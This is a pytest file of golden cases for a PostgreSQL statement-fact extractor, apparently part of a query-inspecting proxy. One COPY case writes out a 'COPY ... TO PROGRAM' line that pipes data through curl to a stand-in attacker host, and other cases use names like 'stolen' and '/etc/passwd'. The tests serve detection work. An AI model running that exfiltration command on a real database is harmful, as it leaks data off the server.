"""Golden cases for pg_facts: PostgreSQL's own reading of a statement, reduced to facts.

Each case is a statement and the facts expected from it. Every field not named in a case must
have its empty value (no relation, no function, False, 0...), so a case also proves that nothing
extra is reported; `statement_details`, when given, is compared key by key.
"""

from __future__ import annotations

import dataclasses
from typing import Any

import pglast
import pytest

from proxy.sql.pg_facts import PgFacts, pg_facts
from proxy.sql.statements import split_statements

EMPTY = PgFacts(statement_kind="?")
COMPARED = [f.name for f in dataclasses.fields(PgFacts) if f.name != "statement_details"]


def facts_of(sql: str) -> PgFacts:
    statements = split_statements(sql)
    assert len(statements) == 1
    return pg_facts(statements[0].node)


def check(sql: str, kind: str = "SelectStmt", details: dict[str, Any] | None = None,
          **expected: Any) -> PgFacts:
    facts = facts_of(sql)
    assert facts.statement_kind == kind
    for name in COMPARED:
        if name == "statement_kind":
            continue
        want = expected.pop(name, getattr(EMPTY, name))
        if isinstance(want, set):
            want = frozenset(want)
        assert getattr(facts, name) == want, f"{name} of {sql!r}"
    assert not expected, f"unknown fields {sorted(expected)}"
    for key, value in (details or {}).items():
        assert facts.statement_details[key] == value, f"details[{key!r}] of {sql!r}"
    return facts


SHOP_CUSTOMERS = {("shop", "customers")}


# -- names as PostgreSQL reads them ----------------------------------------------------------

def test_unicode_escaped_identifier_is_the_column_postgres_reads() -> None:
    # sqlglot reads a bitwise AND of columns U and "\0065mail"; PostgreSQL reads `email`
    check(r'SELECT U&"\0065mail" FROM shop.customers',
          relations=SHOP_CUSTOMERS, column_names={"email"})


def test_quoted_names_keep_their_case_and_unquoted_ones_fold() -> None:
    check('SELECT "Email", EMAIL, "LOWER"(x) FROM "Shop"."Customers"',
          relations={("Shop", "Customers")}, column_names={"Email", "email", "x"},
          functions={(None, "LOWER")})


def test_database_qualified_relation() -> None:
    check("SELECT * FROM acme.shop.customers",
          relations=SHOP_CUSTOMERS, qualified_with_database=True, has_star=True)


def test_last_field_of_column_references_and_stars() -> None:
    check("SELECT c.email, shop.customers.id, t.*, shop.customers.*, * "
          "FROM shop.customers, shop.customers AS c, t",
          relations={("shop", "customers"), (None, "t")},
          column_names={"email", "id"}, has_star=True,
          qualified_stars={("t",), ("shop", "customers")})


def test_table_command_is_a_star_select() -> None:
    check("TABLE shop.customers", relations=SHOP_CUSTOMERS, has_star=True)


def test_whole_row_and_field_selection() -> None:
    check("SELECT (c).email, c, row_to_json(c), (c).* FROM shop.customers c",
          relations=SHOP_CUSTOMERS, column_names={"c"}, field_selections=True,
          selected_fields={"email", "*"}, functions={(None, "row_to_json")})


def test_subscripts_are_not_field_selections() -> None:
    check("SELECT tags[1], tags[2:3] FROM t",
          relations={(None, "t")}, column_names={"tags"})


def test_field_selection_of_a_qualified_star() -> None:
    check("SELECT (t.*).a FROM t",
          relations={(None, "t")}, qualified_stars={("t",)}, field_selections=True,
          selected_fields={"a"})


def test_join_using_columns() -> None:
    check("SELECT 1 FROM shop.orders o JOIN shop.customers c USING (id) "
          "NATURAL JOIN shop.events",
          relations={("shop", "orders"), ("shop", "customers"), ("shop", "events")},
          using_columns={"id"})


# -- CTE scopes ------------------------------------------------------------------------------

def test_cte_reference_is_not_a_relation() -> None:
    check("WITH recent AS (SELECT id FROM shop.orders) SELECT * FROM recent",
          relations={("shop", "orders")}, cte_names={"recent"}, column_names={"id"},
          has_star=True, inner_statement_kinds={"SelectStmt"})


def test_cte_shadowing_a_table_name() -> None:
    # the body of a plain CTE does not see itself: `customers` there is the real table...
    check("WITH customers AS (SELECT id FROM customers) SELECT id FROM customers",
          relations={(None, "customers")}, cte_names={"customers"}, column_names={"id"},
          inner_statement_kinds={"SelectStmt"})
    # ...while the outer reference is the CTE, so no table is read at all here
    check("WITH customers AS (SELECT 1 AS id) SELECT id FROM customers",
          cte_names={"customers"}, column_names={"id"}, inner_statement_kinds={"SelectStmt"})
    # a schema-qualified name is never a CTE
    check("WITH customers AS (SELECT 1 AS id) SELECT id FROM shop.customers",
          relations=SHOP_CUSTOMERS, cte_names={"customers"}, column_names={"id"},
          inner_statement_kinds={"SelectStmt"})


def test_sibling_ctes_see_only_earlier_ones() -> None:
    check("WITH a AS (SELECT 1 AS x), b AS (SELECT x FROM a) SELECT x FROM b",
          cte_names={"a", "b"}, column_names={"x"}, inner_statement_kinds={"SelectStmt"})
    check("WITH a AS (SELECT x FROM b), b AS (SELECT 1 AS x) SELECT x FROM a",
          relations={(None, "b")}, cte_names={"a", "b"}, column_names={"x"},
          inner_statement_kinds={"SelectStmt"})


def test_recursive_cte_sees_itself_and_its_siblings() -> None:
    check("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5), "
          "u AS (SELECT n FROM v), v AS (SELECT n FROM t) SELECT n FROM u",
          cte_names={"t", "u", "v"}, column_names={"n"}, operators={(None, "+"), (None, "<")},
          has_recursive_cte=True, inner_statement_kinds={"SelectStmt"})


def test_nested_cte_scopes() -> None:
    # `a` is visible inside the derived table; `b` is not visible outside it
    check("WITH a AS (SELECT 1 AS x) "
          "SELECT * FROM (WITH b AS (SELECT x FROM a) SELECT x FROM b) AS s, b",
          relations={(None, "b")}, cte_names={"a", "b"}, column_names={"x"}, has_star=True,
          inner_statement_kinds={"SelectStmt"})
    # an inner CTE shadows an outer one of the same name, and the outer one stays visible
    # in the inner CTE's own body
    check("WITH a AS (SELECT id FROM shop.orders) "
          "SELECT (WITH a AS (SELECT id FROM a) SELECT max(id) FROM a) FROM a",
          relations={("shop", "orders")}, cte_names={"a"}, column_names={"id"},
          functions={(None, "max")}, has_sublink=True, inner_statement_kinds={"SelectStmt"})


def test_cte_visible_in_subqueries_and_set_operations() -> None:
    check("WITH a AS (SELECT 1 AS x) SELECT x FROM a UNION SELECT 2 WHERE EXISTS "
          "(SELECT 1 FROM a WHERE x IN (SELECT x FROM a))",
          cte_names={"a"}, column_names={"x"}, has_sublink=True, operators={(None, "=")},
          inner_statement_kinds={"SelectStmt"}, details={"set_operation": "UNION"})
    # a WITH inside one parenthesized branch does not reach the other branch
    check("(WITH a AS (SELECT 1 AS x) SELECT x FROM a) UNION SELECT x FROM a",
          relations={(None, "a")}, cte_names={"a"}, column_names={"x"},
          inner_statement_kinds={"SelectStmt"})


def test_dml_target_is_a_table_even_when_a_cte_has_its_name() -> None:
    check("WITH t AS (SELECT 1 AS a) INSERT INTO t (a) SELECT a FROM t RETURNING a",
          kind="InsertStmt", relations={(None, "t")}, cte_names={"t"}, column_names={"a"},
          inner_statement_kinds={"SelectStmt"},
          details={"target": (None, "t"), "columns": ("a",), "source": "select",
                   "returning": True, "on_conflict": False})
    check("WITH t AS (SELECT 1 AS id) UPDATE t SET x = 1 FROM t AS u WHERE t.id = u.id",
          kind="UpdateStmt", relations={(None, "t")}, cte_names={"t"}, column_names={"id"},
          operators={(None, "=")}, inner_statement_kinds={"SelectStmt"},
          details={"target": (None, "t"), "set_columns": ("x",), "has_from": True})


def test_data_modifying_cte() -> None:
    check("WITH gone AS (DELETE FROM shop.orders WHERE total < 0 RETURNING *) "
          "SELECT count(*) FROM gone",
          relations={("shop", "orders")}, cte_names={"gone"}, column_names={"total"},
          has_star=True, functions={(None, "count")}, operators={(None, "<")},
          inner_statement_kinds={"DeleteStmt"})


# -- every place an expression can hide ------------------------------------------------------

def test_functions_filter_window_and_parameters() -> None:
    check("SELECT lower(c.email)::varchar(20), "
          "count(*) FILTER (WHERE c.country = $3) OVER (PARTITION BY c.id ORDER BY c.created), "
          "sum(o.total) OVER w, string_agg(c.email, ',' ORDER BY c.id) "
          "FROM shop.customers c JOIN shop.orders o ON o.customer_id = c.id "
          "WHERE c.id > $1 GROUP BY ROLLUP (c.country) HAVING count(*) > 1 "
          "WINDOW w AS (ORDER BY o.id) ORDER BY 1 LIMIT $2",
          relations={("shop", "customers"), ("shop", "orders")},
          column_names={"email", "country", "id", "created", "total", "customer_id"},
          functions={(None, "lower"), (None, "count"), (None, "sum"), (None, "string_agg")},
          operators={(None, "="), (None, ">")},
          type_names={("pg_catalog", "varchar")}, parameters=3)


def test_sublinks_of_every_kind() -> None:
    check("SELECT (SELECT max(id) FROM a), ARRAY(SELECT id FROM b) FROM t "
          "WHERE EXISTS (SELECT 1 FROM c) AND x IN (SELECT y FROM d) "
          "AND x < ALL (SELECT y FROM e) AND NOT x = ANY (ARRAY[1, 2])",
          relations={(None, n) for n in ("a", "b", "c", "d", "e", "t")},
          column_names={"id", "x", "y"}, functions={(None, "max")},
          operators={(None, "="), (None, "<")}, has_sublink=True,
          inner_statement_kinds={"SelectStmt"})


def test_lateral_functions_in_from_and_values() -> None:
    check("SELECT o.id, x.v, g.i, v.name FROM shop.orders o "
          "CROSS JOIN LATERAL (SELECT o.total * 2 AS v) x, "
          "LATERAL generate_series(1, 3) WITH ORDINALITY g(i, n), "
          "(VALUES (1, 'a'), (2, 'b')) AS v(id, name), "
          "ROWS FROM (unnest(ARRAY[1]), json_to_record('{}') AS (a int)) r",
          relations={("shop", "orders")}, column_names={"id", "v", "i", "name", "total"},
          functions={(None, "generate_series"), (None, "unnest"), (None, "json_to_record")},
          operators={(None, "*")}, type_names={("pg_catalog", "int4")},
          inner_statement_kinds={"SelectStmt"})


def test_for_update_of_alias_is_not_a_relation() -> None:
    check("SELECT id FROM shop.customers c FOR UPDATE OF c NOWAIT",
          relations=SHOP_CUSTOMERS, column_names={"id"}, details={"locking": True})
    check("SELECT id FROM (SELECT id FROM t FOR SHARE) s",
          relations={(None, "t")}, column_names={"id"}, inner_statement_kinds={"SelectStmt"},
          details={"locking": True, "into": False})


def test_operators_in_all_their_forms() -> None:
    check("SELECT -a, a OPERATOR(pg_catalog.~) 'x', a BETWEEN 1 AND 2, "
          "a NOT BETWEEN SYMMETRIC 1 AND 2, a LIKE 'x', a NOT ILIKE 'y', a SIMILAR TO 'z', "
          "a IS DISTINCT FROM b, a IN (1, 2), a NOT IN (3), a @> b, j ->> 'k', "
          "a OPERATOR(public.===) b FROM t ORDER BY a USING >",
          relations={(None, "t")}, column_names={"a", "b", "j"},
          functions={("pg_catalog", "similar_to_escape")},
          operators={(None, "-"), ("pg_catalog", "~"), (None, "BETWEEN"),
                     (None, "NOT BETWEEN SYMMETRIC"), (None, "~~"), (None, "!~~*"),
                     (None, "~"), (None, "="), (None, "<>"), (None, "@>"), (None, "->>"),
                     ("public", "==="), (None, ">")})


def test_sql_syntax_that_calls_functions() -> None:
    check("SELECT EXTRACT(year FROM d), POSITION('@' IN s), SUBSTRING(s FROM 1 FOR 2), "
          "TRIM(BOTH 'x' FROM s), d AT TIME ZONE 'UTC', COALESCE(a, b), GREATEST(a, b), "
          "LEAST(a, b), NULLIF(a, b), GROUPING(a), COLLATION FOR (s), "
          "OVERLAY(s PLACING 'x' FROM 2) FROM t GROUP BY a",
          relations={(None, "t")}, column_names={"a", "b", "d", "s"},
          functions={("pg_catalog", "extract"), ("pg_catalog", "position"),
                     ("pg_catalog", "substring"), ("pg_catalog", "btrim"),
                     ("pg_catalog", "timezone"), (None, "coalesce"), (None, "greatest"),
                     (None, "least"), (None, "nullif"), (None, "grouping"),
                     ("pg_catalog", "pg_collation_for"), ("pg_catalog", "overlay")},
          operators={(None, "=")})


def test_sql_value_functions() -> None:
    check("SELECT current_user, session_user, user, current_role, current_date, "
          "current_timestamp(3), localtime, localtimestamp, current_time, current_schema, "
          "current_catalog, system_user",
          functions={(None, n) for n in (
              "current_user", "session_user", "user", "current_role", "current_date",
              "current_timestamp", "localtime", "localtimestamp", "current_time",
              "current_schema", "current_catalog")} | {("pg_catalog", "system_user")})


def test_xml_syntax_gets_xml_pseudo_names() -> None:
    check("SELECT xmlelement(name e, a), xmlforest(a), xmlconcat(x, x), "
          "xmlparse(document s), xmlpi(name p), xmlroot(x, version '1.0'), "
          "xmlserialize(content x AS text), x IS DOCUMENT, xmlagg(x), xpath('/a', x) "
          "FROM t, XMLTABLE('/r' PASSING x COLUMNS c int PATH 'c') AS xt",
          relations={(None, "t")}, column_names={"a", "x", "s"},
          functions={(None, n) for n in (
              "xmlelement", "xmlforest", "xmlconcat", "xmlparse", "xmlpi", "xmlroot",
              "xmlserialize", "xml_is_document", "xmlagg", "xpath", "xmltable")},
          type_names={(None, "text"), ("pg_catalog", "int4")})


def test_sql_json_syntax() -> None:
    check("SELECT json_object('a': v), json_array(v), json_arrayagg(v), json_objectagg(k: v), "
          "json('{}'), json_scalar(1), json_serialize(j), json_exists(j, '$.a'), "
          "json_query(j, '$.a'), json_value(j, '$.a' RETURNING int), j IS JSON "
          "FROM t, JSON_TABLE(j, '$[*]' COLUMNS (a text PATH '$.a')) AS jt",
          relations={(None, "t")}, column_names={"v", "k", "j"},
          functions={(None, n) for n in (
              "json_object", "json_array", "json_arrayagg", "json_objectagg", "json",
              "json_scalar", "json_serialize", "json_exists", "json_query", "json_value",
              "json_table")},
          type_names={("pg_catalog", "int4"), (None, "text")})


def test_qualified_function_names() -> None:
    check("SELECT public.f(x), pg_catalog.lower(x), a.b.c(x), f(named => 1)",
          column_names={"x"},
          functions={("public", "f"), ("pg_catalog", "lower"), ("a.b", "c"), (None, "f")})


def test_type_names() -> None:
    check("SELECT x::int, x::integer[], x::\"char\", CAST(x AS timestamp with time zone), "
          "interval '1 day', date '2020-01-01', x::public.mytype, x::regclass, "
          "x::character varying(3), x::double precision, x::acme.shop.t",
          column_names={"x"},
          type_names={("pg_catalog", "int4"), (None, "char"), ("pg_catalog", "timestamptz"),
                      ("pg_catalog", "interval"), (None, "date"), ("public", "mytype"),
                      (None, "regclass"), ("pg_catalog", "varchar"), ("pg_catalog", "float8"),
                      ("acme.shop", "t")})


def test_tablesample_method_is_a_function() -> None:
    check("SELECT email FROM shop.customers TABLESAMPLE bernoulli (10) REPEATABLE (1)",
          relations=SHOP_CUSTOMERS, column_names={"email"}, functions={(None, "bernoulli")})


def test_deeply_nested_expression_does_not_exhaust_recursion() -> None:
    facts = facts_of("SELECT " + " + ".join(["a"] * 5000) + " FROM t")
    assert facts.column_names == {"a"}
    assert facts.operators == {(None, "+")}
    facts = facts_of("SELECT " + "lower(" * 400 + "a" + ")" * 400)
    assert facts.functions == {(None, "lower")}


# -- statement kinds and details -------------------------------------------------------------

def test_select_details() -> None:
    check("SELECT 1", details={"into": False, "into_target": None, "locking": False,
                               "set_operation": None})


def test_select_into() -> None:
    check("SELECT email INTO TEMP stolen FROM shop.customers",
          relations={("shop", "customers"), (None, "stolen")}, column_names={"email"},
          details={"into": True, "into_target": (None, "stolen")})
    # PostgreSQL accepts INTO in the first branch of a set operation; the created table is
    # never a CTE, whatever its name
    check("WITH stolen AS (SELECT 1 AS a) SELECT a INTO stolen FROM stolen UNION SELECT 2",
          relations={(None, "stolen")}, cte_names={"stolen"}, column_names={"a"},
          inner_statement_kinds={"SelectStmt"},
          details={"into": True, "into_target": (None, "stolen"), "set_operation": "UNION"})


def test_create_materialized_view_and_table_as() -> None:
    check("CREATE MATERIALIZED VIEW shop.emails AS SELECT email FROM shop.customers WITH NO DATA",
          kind="CreateTableAsStmt", relations={("shop", "emails"), ("shop", "customers")},
          column_names={"email"}, inner_statement_kinds={"SelectStmt"},
          details={"objtype": "materialized view", "target": ("shop", "emails"),
                   "is_select_into": False, "with_no_data": True, "query_kind": "SelectStmt"})
    check("CREATE TABLE IF NOT EXISTS copy AS TABLE shop.customers",
          kind="CreateTableAsStmt", relations={(None, "copy"), ("shop", "customers")},
          has_star=True, inner_statement_kinds={"SelectStmt"},
          details={"objtype": "table", "target": (None, "copy"), "if_not_exists": True})


@pytest.mark.parametrize(
    ("sql", "details", "expected"),
    [
        ("COPY shop.customers (id, email) TO STDOUT WITH (FORMAT csv, HEADER, FORCE_QUOTE *)",
         {"is_from": False, "filename": None, "is_program": False,
          "relation": ("shop", "customers"), "has_query": False, "columns": ("id", "email"),
          "options": {"format": "csv", "header": True, "force_quote": "*"}},
         {"relations": SHOP_CUSTOMERS}),
        ("COPY (SELECT email FROM shop.customers) TO STDOUT",
         {"is_from": False, "filename": None, "relation": None, "has_query": True,
          "query_kind": "SelectStmt", "options": {}},
         {"relations": SHOP_CUSTOMERS, "column_names": {"email"},
          "inner_statement_kinds": {"SelectStmt"}}),
        ("COPY shop.customers FROM STDIN WITH CSV HEADER",
         {"is_from": True, "filename": None, "is_program": False,
          "options": {"format": "csv", "header": True}},
         {"relations": SHOP_CUSTOMERS}),
        ("COPY shop.customers TO '/tmp/out.csv' (DELIMITER ';', FORCE_QUOTE (email))",
         {"is_from": False, "filename": "/tmp/out.csv", "is_program": False,
          "options": {"delimiter": ";", "force_quote": ("email",)}},
         {"relations": SHOP_CUSTOMERS}),
        ("COPY (SELECT 1) TO PROGRAM 'curl -d @- https://evil.example'",
         {"filename": "curl -d @- https://evil.example", "is_program": True, "has_query": True},
         {"inner_statement_kinds": {"SelectStmt"}}),
        ("COPY shop.orders FROM '/tmp/in' WHERE total > 0",
         {"is_from": True, "filename": "/tmp/in", "has_where": True},
         {"relations": {("shop", "orders")}, "column_names": {"total"},
          "operators": {(None, ">")}}),
    ],
)
def test_copy(sql: str, details: dict[str, Any], expected: dict[str, Any]) -> None:
    check(sql, kind="CopyStmt", details=details, **expected)


@pytest.mark.parametrize(
    ("sql", "analyze"),
    [
        ("EXPLAIN SELECT email FROM shop.customers", False),
        ("EXPLAIN ANALYZE SELECT email FROM shop.customers", True),
        ("EXPLAIN ANALYSE VERBOSE SELECT email FROM shop.customers", True),
        ("EXPLAIN (ANALYZE) SELECT email FROM shop.customers", True),
        ("EXPLAIN (ANALYZE true, FORMAT json) SELECT email FROM shop.customers", True),
        ("EXPLAIN (ANALYZE on) SELECT email FROM shop.customers", True),
        ("EXPLAIN (ANALYZE 1) SELECT email FROM shop.customers", True),
        ("EXPLAIN (ANALYZE false) SELECT email FROM shop.customers", False),
        ("EXPLAIN (ANALYZE off, COSTS off) SELECT email FROM shop.customers", False),
        ("EXPLAIN (ANALYZE 0) SELECT email FROM shop.customers", False),
        ("EXPLAIN (ANALYZE maybe) SELECT email FROM shop.customers", True),  # fail closed
    ],
)
def test_explain(sql: str, analyze: bool) -> None:
    check(sql, kind="ExplainStmt", relations=SHOP_CUSTOMERS, column_names={"email"},
          inner_statement_kinds={"SelectStmt"},
          details={"analyze": analyze, "query_kind": "SelectStmt"})


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("BEGIN", "BEGIN"),
        ("START TRANSACTION", "START"),
        ("COMMIT", "COMMIT"),
        ("END", "COMMIT"),
        ("ROLLBACK", "ROLLBACK"),
        ("ABORT", "ROLLBACK"),
        ("SAVEPOINT s1", "SAVEPOINT"),
        ("RELEASE SAVEPOINT s1", "RELEASE"),
        ("ROLLBACK TO SAVEPOINT s1", "ROLLBACK_TO"),
        ("PREPARE TRANSACTION 'g1'", "PREPARE"),
        ("COMMIT PREPARED 'g1'", "COMMIT_PREPARED"),
        ("ROLLBACK PREPARED 'g1'", "ROLLBACK_PREPARED"),
    ],
)
def test_transaction_kinds(sql: str, kind: str) -> None:
    check(sql, kind="TransactionStmt", details={"kind": kind})


def test_transaction_options() -> None:
    check("BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY", kind="TransactionStmt",
          details={"kind": "BEGIN", "chain": False,
                   "options": {"transaction_isolation": "serializable",
                               "transaction_read_only": 1}})
    check("COMMIT AND CHAIN", kind="TransactionStmt", details={"kind": "COMMIT", "chain": True})
    check("SAVEPOINT s1", kind="TransactionStmt", details={"savepoint_name": "s1"})


def test_insert_details() -> None:
    check("INSERT INTO shop.customers (id, email) VALUES ($1, $2) "
          "ON CONFLICT (email) DO UPDATE SET id = excluded.id WHERE shop.customers.id < 10 "
          "RETURNING id",
          kind="InsertStmt", relations=SHOP_CUSTOMERS, column_names={"id"},
          operators={(None, "<")}, parameters=2, inner_statement_kinds={"SelectStmt"},
          details={"target": ("shop", "customers"), "columns": ("id", "email"),
                   "source": "values", "returning": True, "on_conflict": True,
                   "on_conflict_action": "update", "on_conflict_columns": ("email",)})
    check("INSERT INTO t DEFAULT VALUES ON CONFLICT DO NOTHING", kind="InsertStmt",
          relations={(None, "t")},
          details={"target": (None, "t"), "columns": (), "source": "default_values",
                   "returning": False, "on_conflict": True, "on_conflict_action": "nothing"})


def test_update_and_delete_details() -> None:
    check("UPDATE shop.orders o SET total = 0, (status, customer_id) = (SELECT 'x', 1) "
          "FROM shop.customers c WHERE c.id = o.customer_id RETURNING o.*",
          kind="UpdateStmt", relations={("shop", "orders"), ("shop", "customers")},
          column_names={"id", "customer_id"}, operators={(None, "=")},
          qualified_stars={("o",)}, has_sublink=True, inner_statement_kinds={"SelectStmt"},
          details={"target": ("shop", "orders"),
                   "set_columns": ("total", "status", "customer_id"),
                   "has_where": True, "has_from": True, "returning": True})
    check("DELETE FROM shop.orders USING shop.customers c WHERE c.id = customer_id",
          kind="DeleteStmt", relations={("shop", "orders"), ("shop", "customers")},
          column_names={"id", "customer_id"}, operators={(None, "=")},
          details={"target": ("shop", "orders"), "has_where": True, "has_using": True,
                   "returning": False})


def test_merge() -> None:
    check("WITH src AS (SELECT id FROM staging) MERGE INTO shop.orders o USING src s "
          "ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = 0 "
          "WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id) RETURNING merge_action()",
          kind="MergeStmt", relations={(None, "staging"), ("shop", "orders")},
          cte_names={"src"}, column_names={"id"}, operators={(None, "=")},
          functions={(None, "merge_action")}, inner_statement_kinds={"SelectStmt"},
          details={"target": ("shop", "orders"), "actions": ("update", "insert"),
                   "returning": True})


def test_listen_notify_and_other_utility_statements() -> None:
    check("LISTEN ch", kind="ListenStmt", details={"channel": "ch"})
    check("NOTIFY ch, 'x'", kind="NotifyStmt", details={"channel": "ch", "payload": "x"})
    check("SET search_path = evil", kind="VariableSetStmt",
          details={"name": "search_path", "is_local": False})
    check("SHOW server_version", kind="VariableShowStmt", details={"name": "server_version"})
    check("DO $$ BEGIN PERFORM 1; END $$", kind="DoStmt")
    check("CALL shop.proc(1)", kind="CallStmt", functions={("shop", "proc")})
    check("LOCK TABLE shop.customers", kind="LockStmt", relations=SHOP_CUSTOMERS)
    check("TRUNCATE shop.orders", kind="TruncateStmt", relations={("shop", "orders")})


def test_prepare_execute_declare() -> None:
    check("PREPARE q (int) AS SELECT email FROM shop.customers WHERE id = $1",
          kind="PrepareStmt", relations=SHOP_CUSTOMERS, column_names={"email", "id"},
          operators={(None, "=")}, type_names={("pg_catalog", "int4")}, parameters=1,
          inner_statement_kinds={"SelectStmt"},
          details={"name": "q", "query_kind": "SelectStmt"})
    check("EXECUTE q (1)", kind="ExecuteStmt", details={"name": "q"})
    check("DECLARE cur CURSOR WITH HOLD FOR SELECT email FROM shop.customers",
          kind="DeclareCursorStmt", relations=SHOP_CUSTOMERS, column_names={"email"},
          inner_statement_kinds={"SelectStmt"},
          details={"name": "cur", "query_kind": "SelectStmt"})


def test_create_view_and_function() -> None:
    check("CREATE VIEW v AS SELECT email FROM shop.customers", kind="ViewStmt",
          relations={(None, "v"), ("shop", "customers")}, column_names={"email"},
          inner_statement_kinds={"SelectStmt"}, details={"target": (None, "v")})
    check("CREATE FUNCTION f(a int) RETURNS text LANGUAGE sql AS 'SELECT 1'",
          kind="CreateFunctionStmt",
          type_names={("pg_catalog", "int4"), (None, "text")})


# -- the object itself -----------------------------------------------------------------------

def test_facts_are_immutable_and_hashable() -> None:
    facts = facts_of("COPY shop.customers TO STDOUT (FORMAT csv)")
    with pytest.raises(dataclasses.FrozenInstanceError):
        facts.relations = frozenset()  # type: ignore[misc]
    with pytest.raises(TypeError):
        facts.statement_details["filename"] = "/etc/passwd"  # type: ignore[index]
    with pytest.raises(TypeError):
        facts.statement_details["options"]["format"] = "text"  # type: ignore[index]
    assert hash(facts) == hash(facts_of("COPY shop.customers TO STDOUT (FORMAT csv)"))


def test_accepts_raw_statements_and_each_statement_of_a_string() -> None:
    raw = pglast.parse_sql("SELECT a FROM t; SELECT b FROM u")
    assert pg_facts(raw[0]).column_names == {"a"}
    facts = [pg_facts(s.node) for s in split_statements("SELECT a FROM t; LISTEN x")]
    assert [f.statement_kind for f in facts] == ["SelectStmt", "ListenStmt"]
    assert facts[0].relations == {(None, "t")} and facts[1].relations == frozenset()
